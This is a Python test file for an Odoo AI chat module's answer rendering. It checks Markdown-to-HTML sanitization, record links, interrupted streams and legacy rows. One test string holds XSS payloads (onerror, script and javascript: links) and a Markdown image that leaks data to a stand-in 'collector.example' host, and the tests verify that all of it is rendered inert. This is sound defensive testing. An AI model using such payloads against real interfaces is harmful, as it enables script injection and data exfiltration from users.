import lxml.html

from odoo.exceptions import AccessError
from odoo.tests import tagged

from ..ai_engine import Message, StreamInterrupted
from ..ai_engine.runner import INTERRUPTED
from ..ai_engine.testing import chunked, interrupted, reply
from ..rendering import render_markdown
from .common import AiaCase

HOSTILE = (
    'Hi <img src=x onerror="alert(1)"> <script>alert(2)</script> [click](javascript:alert(3)) '
    '![x](https://collector.example/leak?d=secret) <a href="javascript:alert(4)">a</a> '
    '<iframe src="https://evil.example"></iframe>'
)


@tagged("post_install", "-at_install")
class TestRenderedAnswers(AiaCase):
    """What the chat shows of an answer: the model's Markdown as sanitized HTML, record
    references as links, hostile markup inert; a cut stream kept and marked."""

    def test_markdown_renders_to_html(self):
        html = render_markdown(
            self.env,
            "## Totals\n\n- **Open**: 3\n- Closed: 2\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n"
            "```\nx < 1\n```\nSee [the docs](https://www.odoo.com).",
        )
        for part in ("<h2>Totals</h2>", "<strong>Open</strong>", "<li>", "<table>", "<td>1</td>", "x &lt; 1"):
            self.assertIn(part, html)
        self.assertIn('href="https://www.odoo.com"', html)
        self.assertIn('rel="noopener noreferrer"', html)
        self.assertIn('target="_blank"', html)

    def test_record_references_link_to_existing_models_only(self):
        partner = self.env["res.partner"].create({"name": "Zq Linked"})
        html = render_markdown(self.env, f"Updated res.partner,{partner.id}; not.a.model,4; `res.partner,9`")
        self.assertIn(f'<a href="/odoo/res.partner/{partner.id}" data-oe-model="res.partner"', html)
        self.assertNotIn("/odoo/not.a.model", html)
        self.assertIn("<code>res.partner,9</code>", html)  # code stays code

    def test_hostile_markup_in_an_answer_and_a_tool_result_is_inert(self):
        session = self.new_session()
        self.script(reply(HOSTILE))
        self.chat(session, "Hello")
        [answer] = [m for m in session.chat_data()["messages"] if m["role"] == "assistant"]
        # No element or attribute of the hostile text survives: only its words, as text.
        tree = lxml.html.fragment_fromstring(answer["html"], create_parent="div")
        self.assertEqual({element.tag for element in tree.iter()}, {"div", "p", "a"})
        for link in tree.iter("a"):
            self.assertTrue(link.get("href").startswith("https://"), link.get("href"))
            self.assertEqual(set(link.attrib), {"href", "target", "rel"})
        self.assertIn('<img src=x onerror="alert(1)">', tree.text_content())
        # The rendered answer is stored once; its owner cannot plant markup in it over RPC.
        message = session.message_ids_aia.filtered(lambda m: m.role == "assistant")
        with self.assertRaises(AccessError):
            message.with_user(self.user).write({"html": '<img src="x" onerror="alert(5)">'})
        self.assertIn("&lt;img", answer["html"])  # shown as text
        self.assertEqual(answer["text"], HOSTILE)  # the copy button copies what the model wrote

    def test_a_cut_stream_keeps_the_text_shown_marked_as_interrupted(self):
        session = self.new_session()
        cut = StreamInterrupted("The connection to the model was lost.", provider="test")
        self.script(interrupted(chunked(reply("The **balance** is 42 and"), 4), cut))
        self.chat(session, "Balance?")
        # The chat words the failure from its code and shows the message as the detail.
        self.assertEqual(session.state, "error")
        self.assertEqual(session.chat_data()["error_code"], "provider_stream_interrupted")
        self.assertIn("The connection to the model was lost.", session.error_message)
        answer = session.message_ids_aia.filtered(lambda m: m.role == "assistant")
        self.assertTrue(answer.body.startswith("The **balance** is 42 and"))
        self.assertIn(INTERRUPTED, answer.body)
        [shown] = [m for m in session.chat_data()["messages"] if m["role"] == "assistant"]
        self.assertIn("<strong>balance</strong>", shown["html"])
        self.assertIn("interrupted", shown["html"])

    def test_answers_saved_before_rendering_existed_are_rendered_when_shown(self):
        session = self.new_session()
        self.env["aia.message"].create(
            {
                "session_id": session.id,
                "role": "assistant",
                "content": Message.assistant("**Saved** earlier").to_dict(),
                "html": False,  # as a row from before the field was added
            }
        )
        [answer] = session.chat_data()["messages"]
        self.assertEqual(answer["html"], "<p><strong>Saved</strong> earlier</p>\n")
